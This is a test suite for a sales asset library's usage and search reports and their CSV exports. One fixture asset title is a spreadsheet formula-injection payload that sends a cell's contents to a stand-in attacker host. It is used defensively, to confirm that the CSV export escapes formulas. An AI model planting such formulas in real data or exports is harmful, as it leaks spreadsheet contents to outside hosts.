import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { assets as assetTable, searchLog, usageEvents } from '../../server/db/schema.ts';
import { testApp } from '../support/app.ts';
import { approvedAsset, upload } from '../support/assets.ts';

// The reports say what sales used, what they did not and why, and where the library has gaps. Each block has its
// own database, so its figures are its own; events come through the real endpoints, and older ones are written
// with their `at` set back.

const DAY = 86_400_000;
const daysAgo = (days: number) => new Date(Date.now() - days * DAY);

type Headers = Record<string, string>;

async function setUp() {
  const t = await testApp();
  const [marketing, approver, ...sales] = await Promise.all([t.as('marketing'), t.as('approver'), t.as('sales'), t.as('sales'), t.as('sales')]);
  const me = (headers: Headers) => t.app.inject({ method: 'GET', url: '/api/me', headers }).then((res) => res.json() as { id: string; name: string });
  const ids = await Promise.all(sales.map(async (headers) => (await me(headers)).id));
  const db = t.app.services.database.db;
  return {
    t, db, marketing, approver, sales: sales as [Headers, Headers, Headers], salesIds: ids as [string, string, string],
    /** The name every asset's owner has: marketing uploads them all. */
    owner: (await me(marketing)).name,
    asset: (fields: Record<string, string | string[]> = {}) => approvedAsset(t, marketing, approver, { title: 'Asset', ...fields }),
    async event(headers: Headers, assetId: string, kind: string, queryId?: string) {
      const res = await t.app.inject({ method: 'POST', url: '/api/events', headers, payload: { assetId, kind, ...(queryId && { queryId }) } });
      expect(res.statusCode, res.body).toBe(202);
    },
    async download(headers: Headers, assetId: string) {
      const res = await t.app.inject({ method: 'GET', url: `/api/assets/${assetId}/download`, headers });
      expect(res.statusCode).toBe(200);
    },
    async search(headers: Headers, query: Record<string, string | string[]>): Promise<{ queryId: string; total: number }> {
      const res = await t.app.inject({ method: 'GET', url: '/api/search', headers, query });
      expect(res.statusCode, res.body).toBe(200);
      await t.app.services.usage.flush();
      return res.json();
    },
    /** Counted uses written directly, one per (person, day ago) pair, `at` set back. */
    async pastUses(assetId: string, pairs: [userId: string, daysAgo: number][], kind = 'download') {
      await db.insert(usageEvents).values(pairs.map(([userId, ago]) => ({ assetId, userId, kind, counted: true, at: daysAgo(ago) })));
    },
    async approvedDaysAgo(assetId: string, days: number) {
      await db.update(assetTable).set({ approvedAt: daysAgo(days) }).where(eq(assetTable.id, assetId));
    },
    async report(path: string, query: Record<string, string> = {}, headers: Headers = marketing) {
      const res = await t.app.inject({ method: 'GET', url: `/api/reports/${path}`, headers, query });
      expect(res.statusCode, res.body).toBe(200);
      return res.json();
    },
    async csv(path: string, query: Record<string, string> = {}) {
      const res = await t.app.inject({ method: 'GET', url: `/api/reports/${path}`, headers: marketing, query: { ...query, format: 'csv' } });
      expect(res.statusCode, res.body).toBe(200);
      expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(res.headers['content-disposition']).toMatch(/^attachment; filename="[a-z-]+-\d+d-\d{4}-\d\d-\d\d\.csv"$/);
      return { body: res.body, lines: res.body.trimEnd().split('\n') };
    },
  };
}
type Setup = Awaited<ReturnType<typeof setUp>>;

const REPORTS = ['summary', 'unused', 'assets', 'coverage', 'searches', 'trend', 'hints'];

describe('a window with no events', () => {
  let s: Setup;
  beforeAll(async () => { s = await setUp(); });
  afterAll(() => s.t.close());

  it('answers zeros and empty lists, not errors', async () => {
    const summary = await s.report('summary');
    expect(summary).toMatchObject({
      days: 90, liveAssets: 0, usedAssets: 0, unusedAssets: 0, usedPct: 0, unusedPct: 0, activeSalesUsers: 0, searches: 0, zeroResultSearches: 0,
      events: { view: 0, click: 0, download: 0, share: 0, copy_link: 0, presented: 0 },
    });
    expect(new Date(summary.to).getTime() - new Date(summary.from).getTime()).toBe(90 * DAY);
    const id = await s.asset({ title: 'Lonely asset', personas: 'cfo', stages: 'purchase' });
    expect(await s.report('summary', { days: '1' })).toMatchObject({ liveAssets: 1, usedAssets: 0, unusedAssets: 1, usedPct: 0, unusedPct: 100 });
    expect((await s.report('unused')).items.map((i: { asset: { id: string } }) => i.asset.id)).toEqual([id]);
    expect((await s.report('assets')).items).toMatchObject([{ uses: 0, views: 0, downloads: 0, shares: 0, uniqueUsers: 0, lastUsedAt: null, score: null }]);
    const coverage = await s.report('coverage');
    expect(coverage.cells.every((c: { uses: number; usedAssets: number; zeroResultSearches: number }) => c.uses + c.usedAssets + c.zeroResultSearches === 0)).toBe(true);
    expect(await s.report('searches')).toEqual({ top: [], zeroResults: [] });
    const trend = await s.report('trend', { days: '30' });
    expect(trend.points.length).toBeGreaterThanOrEqual(30);
    expect(trend.points.every((p: Record<string, number>) => p.views + p.downloads + p.shares + p.searches + p.uses === 0)).toBe(true);
    expect(await s.report('hints')).toEqual({ total: 0, items: [] });
  });

  it('refuses windows out of range, and sales', async () => {
    for (const report of REPORTS) {
      for (const days of ['0', '731', 'soon']) {
        const res = await s.t.app.inject({ method: 'GET', url: `/api/reports/${report}`, headers: s.marketing, query: { days } });
        expect(res.statusCode, `${report} days=${days}`).toBe(400);
      }
      const bySales = await s.t.app.inject({ method: 'GET', url: `/api/reports/${report}`, headers: s.sales[0] });
      expect(bySales.statusCode).toBe(403);
      expect(bySales.json().code).toBe('ROLE_REQUIRED');
      expect((await s.t.app.inject({ method: 'GET', url: `/api/reports/${report}` })).statusCode).toBe(401);
      expect((await s.t.app.inject({ method: 'GET', url: `/api/reports/${report}`, headers: s.approver, query: { days: '730' } })).statusCode).toBe(200);
    }
  });
});

describe('summary', () => {
  let s: Setup;
  beforeAll(async () => { s = await setUp(); });
  afterAll(() => s.t.close());

  it('counts live assets used by sales, and only a use as used', async () => {
    const [downloaded, presented, viewed, handled] = await Promise.all(['Downloaded', 'Presented', 'Viewed', 'Handled'].map((title) => s.asset({ title })));
    await s.asset({ title: 'Untouched one' });
    await s.asset({ title: 'Untouched two' });
    // A draft is not live: marketing downloading it changes nothing.
    const draft = await upload(s.t, s.marketing, { title: 'Draft' });
    expect(draft.statusCode).toBe(201);
    await s.download(s.marketing, draft.json().id);
    await s.download(s.sales[0], downloaded!);
    await s.event(s.sales[1], presented!, 'presented');
    await s.event(s.sales[0], viewed!, 'view');
    await s.event(s.sales[0], viewed!, 'click');
    // Marketing handling its content is recorded, not counted.
    await s.download(s.marketing, handled!);
    await s.event(s.marketing, handled!, 'presented');
    await s.event(s.marketing, viewed!, 'copy_link');
    await s.search(s.sales[0], { q: 'downloaded' });
    await s.search(s.sales[2], { q: 'xylophonic' });
    await s.search(s.marketing, { q: 'nothingatall' });
    // The home page's empty browse is not a search.
    await s.search(s.sales[1], {});

    const summary = await s.report('summary');
    expect(summary).toMatchObject({
      liveAssets: 6, usedAssets: 2, unusedAssets: 4, usedPct: 33.3, unusedPct: 66.7,
      events: { view: 1, click: 1, download: 1, share: 0, copy_link: 0, presented: 1 },
      activeSalesUsers: 3, searches: 2, zeroResultSearches: 1,
    });
  });

  it('leaves out what happened before the window', async () => {
    const old = await s.asset({ title: 'Used long ago' });
    await s.pastUses(old, [[s.salesIds[0], 40]]);
    expect(await s.report('summary', { days: '30' })).toMatchObject({ liveAssets: 7, usedAssets: 2 });
    expect(await s.report('summary', { days: '45' })).toMatchObject({ liveAssets: 7, usedAssets: 3, events: { download: 2 } });
  });
});

describe('unused assets', () => {
  let s: Setup;
  let ids: Record<string, string>;
  beforeAll(async () => {
    s = await setUp();
    ids = {
      expiring: await s.asset({ title: 'Expiring brochure', expiresAt: new Date(Date.now() + 10 * DAY).toISOString(), personas: 'cfo' }),
      neverShown: await s.asset({ title: '=HYPERLINK("http://evil.example/?x="&A1,"Click")', personas: 'cfo', stages: 'purchase' }),
      shown: await s.asset({ title: 'Zebrafish brochure', personas: 'cio' }),
      opened: await s.asset({ title: 'Okapi deck', personas: 'cfo', stages: 'awareness' }),
      usedBefore: await s.asset({ title: 'Heron sheet' }),
      used: await s.asset({ title: 'Used flyer' }),
    };
    // Oldest approval first: the order of the keys above.
    for (const [n, id] of Object.values(ids).entries()) await s.approvedDaysAgo(id, 60 - n * 10);
    await s.search(s.sales[0], { q: 'zebrafish' });
    await s.search(s.sales[1], { q: 'zebrafish brochure' });
    await s.search(s.sales[0], { q: 'expiring' });
    await s.event(s.sales[0], ids.opened!, 'view');
    await s.event(s.sales[1], ids.opened!, 'click');
    await s.pastUses(ids.opened!, [[s.salesIds[0], 2]], 'view');
    await s.pastUses(ids.usedBefore!, [[s.salesIds[2], 120]]);
    await s.download(s.sales[2], ids.used!);
    // Marketing opening or using an asset does not make it opened or used.
    await s.download(s.marketing, ids.neverShown!);
    await s.search(s.marketing, { q: 'hyperlink' });
  });
  afterAll(() => s.t.close());

  it('lists live assets without a use, oldest first, each with why', async () => {
    const { items, total } = await s.report('unused');
    expect(total).toBe(5);
    expect(items.map((i: { asset: { id: string } }) => i.asset.id)).toEqual([ids.expiring, ids.neverShown, ids.shown, ids.opened, ids.usedBefore]);
    const byId = Object.fromEntries(items.map((i: { asset: { id: string } }) => [i.asset.id, i]));
    expect(byId[ids.expiring!]).toMatchObject({ reason: 'expiring', daysLive: 60, lastUsedAt: null });
    expect(byId[ids.expiring!].reasonText).toMatch(/^Expires in 10 days \(\d{4}-\d\d-\d\d\), not used in the last 90 days$/);
    expect(byId[ids.expiring!].expiresAt).not.toBeNull();
    expect(byId[ids.neverShown!]).toMatchObject({ reason: 'never_shown', reasonText: 'Not shown in any search in the last 90 days', daysLive: 50 });
    expect(byId[ids.shown!]).toMatchObject({ reason: 'shown_not_opened', reasonText: 'Shown in 2 searches, never opened' });
    expect(byId[ids.opened!]).toMatchObject({ reason: 'opened_not_used', reasonText: 'Opened 3 times by 2 people, never downloaded, shared or presented' });
    expect(byId[ids.usedBefore!]).toMatchObject({ reason: 'never_shown' });
    expect(new Date(byId[ids.usedBefore!].lastUsedAt).getTime()).toBeCloseTo(daysAgo(120).getTime(), -5);
    expect(byId[ids.neverShown!].asset).toMatchObject({ title: expect.stringContaining('HYPERLINK'), kind: 'image', personas: ['cfo'], stages: ['purchase'], owner: { name: s.owner } });
    expect(new Date(byId[ids.neverShown!].approvedAt).getTime()).toBeCloseTo(daysAgo(50).getTime(), -5);
  });

  it('counts a use before a longer window', async () => {
    const { items } = await s.report('unused', { days: '180' });
    expect(items.map((i: { asset: { id: string } }) => i.asset.id)).not.toContain(ids.usedBefore);
  });

  it('narrows to a persona and a stage, and pages', async () => {
    const cfo = await s.report('unused', { persona: 'cfo' });
    expect(cfo.items.map((i: { asset: { id: string } }) => i.asset.id)).toEqual([ids.expiring, ids.neverShown, ids.opened]);
    const cell = await s.report('unused', { persona: 'cfo', stage: 'purchase' });
    expect(cell.items.map((i: { asset: { id: string } }) => i.asset.id)).toEqual([ids.neverShown]);
    expect((await s.report('unused', { persona: 'nobody' })).items).toEqual([]);
    const page = await s.report('unused', { limit: '2' });
    expect(page.total).toBe(5);
    expect(page.items.map((i: { asset: { id: string } }) => i.asset.id)).toEqual([ids.expiring, ids.neverShown]);
  });

  it('streams the list as CSV, a formula in a title made text', async () => {
    const { lines, body } = await s.csv('unused');
    expect(lines[0]).toBe('assetId,title,kind,owner,personas,stages,approvedAt,daysLive,lastUsedAt,expiresAt,reason,reasonText');
    expect(lines).toHaveLength(6);
    expect(lines[2]).toContain(`${ids.neverShown},"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",image,${s.owner},cfo,purchase,`);
    expect(body).not.toMatch(/(^|,)"?=HYPERLINK/m);
    expect(lines[1]).toMatch(/,expiring,"Expires in 10 days \(\d{4}-\d\d-\d\d\), not used in the last 90 days"$/);
  });
});

describe('per-asset usage and score', () => {
  let s: Setup;
  let cells: Record<string, string>;
  let people: string[];
  beforeAll(async () => {
    s = await setUp();
    people = [...s.salesIds, ...(await Promise.all([0, 1, 2].map(async (n) => {
      const created = await s.t.app.services.auth.createUser({ email: `seller${n}@example.com`, name: `Seller ${n}`, role: 'sales', password: 'correct horse battery' });
      return created.id;
    })))];
    cells = {
      six: await s.asset({ title: 'Alpha', personas: 'cfo,cio', stages: 'purchase' }),
      four: await s.asset({ title: 'Bravo', personas: 'cfo', stages: 'purchase' }),
      two: await s.asset({ title: 'Charlie', personas: 'cfo', stages: 'purchase' }),
      none: await s.asset({ title: 'Delta', personas: 'cfo', stages: 'purchase' }),
      three: await s.asset({ title: 'Echo', personas: 'cio', stages: 'awareness' }),
      quiet1: await s.asset({ title: 'Foxtrot', personas: 'cio', stages: 'awareness' }),
      quiet2: await s.asset({ title: 'Golf', personas: 'cio', stages: 'awareness' }),
    };
    // Six people on one day, and one of them again the same day: six uses, seven downloads.
    await s.pastUses(cells.six!, people.map((id) => [id, 1] as [string, number]));
    await s.pastUses(cells.six!, [[people[0]!, 1]]);
    // One person on four days is four uses.
    await s.pastUses(cells.four!, [1, 2, 3, 4].map((ago) => [people[1]!, ago] as [string, number]), 'presented');
    await s.pastUses(cells.two!, [[people[2]!, 5], [people[3]!, 5]], 'share');
    await s.pastUses(cells.three!, [[people[0]!, 1], [people[1]!, 1], [people[2]!, 1]], 'copy_link');
    await s.event(s.sales[0], cells.six!, 'view');
    await s.event(s.sales[1], cells.none!, 'view');
    await s.event(s.marketing, cells.none!, 'presented');
  });
  afterAll(() => s.t.close());

  it('counts one person once a day, and scores against the median of the asset\'s own cell', async () => {
    const report = await s.report('assets');
    expect(report.minUses).toBe(3);
    expect(report.scoreFormula).toMatch(/median uses of the live assets in its persona × stage cell/);
    expect(report.total).toBe(7);
    const rows = report.items.map((i: { asset: { title: string } }) => ({ ...i, title: i.asset.title }));
    expect(rows.map((r: { title: string }) => r.title)).toEqual(['Alpha', 'Bravo', 'Echo', 'Charlie', 'Delta', 'Foxtrot', 'Golf']);
    const byTitle = Object.fromEntries(rows.map((r: { title: string }) => [r.title, r]));
    // cfo × purchase has 6, 4, 2 and 0 uses: median 3.
    expect(byTitle.Alpha).toMatchObject({ uses: 6, downloads: 7, views: 1, shares: 0, uniqueUsers: 6, score: 2, cell: { persona: 'cfo', stage: 'purchase' } });
    expect(byTitle.Bravo).toMatchObject({ uses: 4, downloads: 0, uniqueUsers: 1, score: 1.33, cell: { persona: 'cfo', stage: 'purchase' } });
    // Under three uses, no score.
    expect(byTitle.Charlie).toMatchObject({ uses: 2, shares: 2, score: null });
    expect(byTitle.Delta).toMatchObject({ uses: 0, views: 1, uniqueUsers: 1, score: null, lastUsedAt: null });
    // cio × awareness has 3, 0 and 0: a median of 0 counts as 1.
    expect(byTitle.Echo).toMatchObject({ uses: 3, shares: 3, score: 3, cell: { persona: 'cio', stage: 'awareness' } });
    expect(new Date(byTitle.Bravo.lastUsedAt).getTime()).toBeCloseTo(daysAgo(1).getTime(), -5);
  });

  it('sorts and narrows', async () => {
    const titles = async (query: Record<string, string>) => (await s.report('assets', query)).items.map((i: { asset: { title: string } }) => i.asset.title);
    expect(await titles({ sort: 'title' })).toEqual(['Alpha', 'Bravo', 'Charlie', 'Delta', 'Echo', 'Foxtrot', 'Golf']);
    expect(await titles({ sort: 'uses' })).toEqual(['Delta', 'Foxtrot', 'Golf', 'Charlie', 'Echo', 'Bravo', 'Alpha']);
    expect((await titles({ sort: '-lastUsedAt' })).slice(-3)).toEqual(['Delta', 'Foxtrot', 'Golf']);
    expect(await titles({ persona: 'cio' })).toEqual(['Alpha', 'Echo', 'Foxtrot', 'Golf']);
    // Narrowed, an asset keeps the score of its own cell.
    const cio = await s.report('assets', { persona: 'cio', stage: 'purchase' });
    expect(cio.items).toMatchObject([{ asset: { title: 'Alpha' }, score: 2 }]);
    expect((await s.report('assets', { days: '1' })).items[0]).toMatchObject({ uses: 0 });
    const bad = await s.t.app.inject({ method: 'GET', url: '/api/reports/assets', headers: s.marketing, query: { sort: 'popularity' } });
    expect(bad.statusCode).toBe(400);
  });

  it('streams as CSV', async () => {
    const { lines } = await s.csv('assets');
    expect(lines[0]).toBe('assetId,title,kind,owner,personas,stages,cellPersona,cellStage,uses,views,downloads,shares,shareOpens,helpful,notHelpful,uniqueUsers,lastUsedAt,score');
    expect(lines).toHaveLength(8);
    expect(lines[1]).toMatch(new RegExp(`^${cells.six},Alpha,image,${s.owner},cfo; cio,purchase,cfo,purchase,6,1,7,0,0,0,0,6,[^,]+,2$`));
    expect(lines[7]).toMatch(/,Golf,.*,0,0,0,0,0,0,0,0,,$/);
  });
});

describe('coverage', () => {
  let s: Setup;
  beforeAll(async () => {
    s = await setUp();
    const both = await s.asset({ title: 'Two personas', personas: 'cfo,cio', stages: 'purchase' });
    await s.asset({ title: 'Also cfo purchase', personas: 'cfo', stages: 'purchase' });
    await s.asset({ title: 'No stage', personas: 'cfo' });
    await s.pastUses(both, [[s.salesIds[0], 1], [s.salesIds[1], 1], [s.salesIds[1], 2]]);
    await s.search(s.sales[0], { q: 'quuxinator', persona: 'cfo', stage: 'purchase' });
    await s.search(s.sales[1], { q: 'quuxinator', persona: ['cfo', 'cio'], stage: 'purchase' });
    // A persona alone names no cell; a search that found something is no gap; marketing's searches do not count.
    await s.search(s.sales[0], { q: 'quuxinator', persona: 'cfo' });
    await s.search(s.sales[0], { q: 'personas', persona: 'cfo', stage: 'purchase' });
    await s.search(s.marketing, { q: 'quuxinator', persona: 'cfo', stage: 'purchase' });
    // Filters alone that find nothing are a gap too.
    await s.search(s.sales[2], { persona: 'procurement', stage: 'intent' });
  });
  afterAll(() => s.t.close());

  it('has every persona × stage cell, zeros included, with failed searches mapped by their filters', async () => {
    const coverage = await s.report('coverage');
    expect(coverage.stages.map((t: { slug: string }) => t.slug)).toEqual(['awareness', 'interest', 'consideration', 'intent', 'evaluation', 'purchase']);
    expect(coverage.personas[0]).toEqual({ slug: 'cfo', label: 'CFO' });
    expect(coverage.cells).toHaveLength(coverage.personas.length * coverage.stages.length);
    const cell = (persona: string, stage: string) => coverage.cells.find((c: { persona: string; stage: string }) => c.persona === persona && c.stage === stage);
    expect(cell('cfo', 'purchase')).toEqual({ persona: 'cfo', stage: 'purchase', liveAssets: 2, usedAssets: 1, uses: 3, shareOpens: 0, zeroResultSearches: 2 });
    expect(cell('cio', 'purchase')).toEqual({ persona: 'cio', stage: 'purchase', liveAssets: 1, usedAssets: 1, uses: 3, shareOpens: 0, zeroResultSearches: 1 });
    expect(cell('procurement', 'intent')).toMatchObject({ liveAssets: 0, zeroResultSearches: 1 });
    expect(cell('cfo', 'awareness')).toEqual({ persona: 'cfo', stage: 'awareness', liveAssets: 0, usedAssets: 0, uses: 0, shareOpens: 0, zeroResultSearches: 0 });
    const total = coverage.cells.reduce((sum: number, c: { zeroResultSearches: number }) => sum + c.zeroResultSearches, 0);
    expect(total).toBe(4);
  });

  it('lists a cell\'s failed searches for the drill-down', async () => {
    const searches = await s.report('searches', { persona: 'cfo', stage: 'purchase' });
    expect(searches.zeroResults).toMatchObject([{ query: 'quuxinator', count: 2, searchers: 2 }]);
    const filtersOnly = await s.report('searches', { persona: 'procurement', stage: 'intent' });
    expect(filtersOnly.zeroResults).toMatchObject([{ query: '', variants: [], count: 1 }]);
    expect(filtersOnly.top).toEqual([]);
  });

  it('streams as CSV', async () => {
    const { lines } = await s.csv('coverage');
    expect(lines[0]).toBe('persona,personaLabel,stage,stageLabel,liveAssets,usedAssets,uses,shareOpens,zeroResultSearches');
    expect(lines).toHaveLength(37);
    expect(lines).toContain('cfo,CFO,purchase,Purchase,2,1,3,0,2');
  });
});

describe('search analytics', () => {
  let s: Setup;
  beforeAll(async () => {
    s = await setUp();
    const walrus = await s.asset({ title: 'Walrus sheet' });
    for (const [who, q] of [[0, 'Pricing calculator'], [1, 'pricing calculator'], [2, 'prícing calculator'], [0, 'pricng calculator'], [1, 'Pricing Calculator'], [1, 'pricing calculator']] as const) {
      await s.search(s.sales[who], { q });
    }
    // Short words are not merged: one letter makes another word of them.
    await s.search(s.sales[0], { q: 'sole' });
    await s.search(s.sales[0], { q: 'sale' });
    const found = await s.search(s.sales[0], { q: 'walrus' });
    expect(found.total).toBe(1);
    await s.event(s.sales[0], walrus, 'click', found.queryId);
    await s.search(s.sales[1], { q: 'Walrus' });
    await s.search(s.marketing, { q: 'pricing calculator' });
    // An old one falls out of a short window.
    await s.db.insert(searchLog).values({ userId: s.salesIds[2], query: 'ancient query', filters: {}, resultCount: 0, at: daysAgo(20) });
  });
  afterAll(() => s.t.close());

  it('groups a query typed in other case, accents or with a typo, and counts its searchers', async () => {
    const { zeroResults } = await s.report('searches');
    expect(zeroResults[0]).toMatchObject({ query: 'pricing calculator', count: 6, searchers: 3 });
    expect(zeroResults[0].variants).toEqual(['pricing calculator', 'Pricing Calculator', 'Pricing calculator', 'pricng calculator', 'prícing calculator']);
    expect(new Date(zeroResults[0].lastAt).getTime()).toBeGreaterThan(Date.now() - 60_000);
    expect(zeroResults.map((z: { query: string }) => z.query).sort()).toEqual(['ancient query', 'pricing calculator', 'sale', 'sole']);
    expect((await s.report('searches', { days: '7' })).zeroResults.map((z: { query: string }) => z.query)).not.toContain('ancient query');
  });

  it('ranks the top queries with their click rate', async () => {
    const { top } = await s.report('searches');
    expect(top[0]).toEqual({ query: 'pricing calculator', count: 6, clickRate: 0, searchers: 3 });
    expect(top.find((q: { query: string }) => q.query.toLowerCase() === 'walrus')).toEqual({ query: 'Walrus', count: 2, clickRate: 0.5, searchers: 2 });
  });

  it('streams both lists as CSV', async () => {
    const { lines } = await s.csv('searches');
    expect(lines[0]).toBe('list,query,variants,count,searchers,clickRate,lastAt');
    expect(lines[1]).toBe('top,pricing calculator,,6,3,0,');
    expect(lines.find((l) => l.startsWith('zero_results,pricing calculator,'))).toMatch(/^zero_results,pricing calculator,pricing calculator; Pricing Calculator; Pricing calculator; pricng calculator; prícing calculator,6,3,,\d{4}-/);
  });
});

describe('trend', () => {
  let s: Setup;
  beforeAll(async () => {
    s = await setUp();
    const id = await s.asset({ title: 'Trending' });
    await s.pastUses(id, [[s.salesIds[0], 2], [s.salesIds[0], 2], [s.salesIds[1], 2]]);
    await s.pastUses(id, [[s.salesIds[0], 3]], 'view');
    await s.pastUses(id, [[s.salesIds[0], 3]], 'copy_link');
    await s.pastUses(id, [[s.salesIds[0], 40]], 'view');
    await s.db.insert(usageEvents).values({ assetId: id, userId: null, kind: 'view', counted: false, at: daysAgo(3) });
    await s.db.insert(searchLog).values({ userId: s.salesIds[0], query: 'trend', filters: {}, resultCount: 1, at: daysAgo(3) });
  });
  afterAll(() => s.t.close());

  const dateOf = (date: Date) => date.toISOString().slice(0, 10);

  it('has every day of the window, zeros included', async () => {
    const { interval, points } = await s.report('trend', { days: '7', interval: 'day' });
    expect(interval).toBe('day');
    const first = new Date(`${dateOf(daysAgo(7))}T00:00:00Z`);
    const expected = Array.from({ length: Math.floor((Date.now() - first.getTime()) / DAY) + 1 }, (_, n) => dateOf(new Date(first.getTime() + n * DAY)));
    expect(points.map((p: { date: string }) => p.date)).toEqual(expected);
    const on = (ago: number) => points.find((p: { date: string }) => p.date === dateOf(daysAgo(ago)));
    expect(on(2)).toEqual({ date: dateOf(daysAgo(2)), views: 0, downloads: 3, shares: 0, searches: 0, uses: 2 });
    expect(on(3)).toEqual({ date: dateOf(daysAgo(3)), views: 1, downloads: 0, shares: 1, searches: 1, uses: 1 });
    expect(points.reduce((sum: number, p: { views: number }) => sum + p.views, 0)).toBe(1);
  });

  it('has every week of the window, from Monday', async () => {
    const { points } = await s.report('trend', { days: '60', interval: 'week' });
    const dates = points.map((p: { date: string }) => new Date(`${p.date}T00:00:00Z`));
    expect(dates.every((d: Date) => d.getUTCDay() === 1)).toBe(true);
    for (let i = 1; i < dates.length; i++) expect(dates[i].getTime() - dates[i - 1].getTime()).toBe(7 * DAY);
    expect(dates[0].getTime()).toBeLessThanOrEqual(daysAgo(60).getTime());
    expect(dates[0].getTime()).toBeGreaterThan(daysAgo(67).getTime());
    expect(dates.at(-1).getTime()).toBeGreaterThan(daysAgo(7).getTime());
    const sum = (key: string) => points.reduce((total: number, p: Record<string, number>) => total + p[key]!, 0);
    expect([sum('views'), sum('downloads'), sum('shares'), sum('searches'), sum('uses')]).toEqual([2, 3, 1, 1, 3]);
  });

  it('streams as CSV', async () => {
    const { lines } = await s.csv('trend', { days: '7' });
    expect(lines[0]).toBe('date,views,downloads,shares,searches,uses');
    expect(lines).toContain(`${dateOf(daysAgo(2))},0,3,0,0,2`);
  });
});

describe('retire and refresh hints', () => {
  let s: Setup;
  let ids: Record<string, string>;
  beforeAll(async () => {
    s = await setUp();
    ids = {
      old: await s.asset({ title: 'Old and unused' }),
      expiring: await s.asset({ title: 'Expiring soon', expiresAt: new Date(Date.now() + 5 * DAY).toISOString() }),
      dropped: await s.asset({ title: 'Fell out of favour' }),
      steady: await s.asset({ title: 'Steady' }),
      fresh: await s.asset({ title: 'New and unused' }),
    };
    await s.approvedDaysAgo(ids.old!, 200);
    await s.approvedDaysAgo(ids.dropped!, 300);
    await s.approvedDaysAgo(ids.steady!, 300);
    const before = [100, 110, 120, 130, 140, 150].map((ago, n) => [s.salesIds[n % 3]!, ago] as [string, number]);
    await s.pastUses(ids.dropped!, [...before, [s.salesIds[0], 10]]);
    await s.pastUses(ids.steady!, [...before, [s.salesIds[0], 10], [s.salesIds[1], 20], [s.salesIds[2], 30], [s.salesIds[0], 40]]);
  });
  afterAll(() => s.t.close());

  it('flags what expires, what lost its use and what has long gone unused', async () => {
    const { items } = await s.report('hints');
    expect(items.map((i: { asset: { title: string }; hint: string }) => [i.asset.title, i.hint])).toEqual([
      ['Expiring soon', 'expiring'], ['Fell out of favour', 'dropped'], ['Old and unused', 'retire'],
    ]);
    expect(items[0].text).toMatch(/^Expires in 5 days \(\d{4}-\d\d-\d\d\); 0 uses in the last 90 days$/);
    expect(items[0].expiresAt).not.toBeNull();
    expect(items[1]).toMatchObject({ usesNow: 1, usesBefore: 6, daysLive: 300, text: 'Uses fell from 6 to 1: the last 90 days against the 90 days before' });
    expect(items[2]).toMatchObject({ usesNow: 0, usesBefore: 0, daysLive: 200, expiresAt: null, text: 'Live for 200 days, not used in the last 90 days' });
  });

  it('lists the most urgent first when asked for fewer, with how many there are', async () => {
    const { items, total } = await s.report('hints', { limit: '2' });
    expect(total).toBe(3);
    expect(items.map((i: { asset: { title: string } }) => i.asset.title)).toEqual(['Expiring soon', 'Fell out of favour']);
  });

  it('streams as CSV', async () => {
    const { lines } = await s.csv('hints');
    expect(lines[0]).toBe('assetId,title,kind,owner,personas,stages,hint,text,expiresAt,daysLive,usesNow,usesBefore');
    expect(lines).toHaveLength(4);
    expect(lines[3]).toBe(`${ids.old},Old and unused,image,${s.owner},,,retire,"Live for 200 days, not used in the last 90 days",,200,0,0`);
  });
});
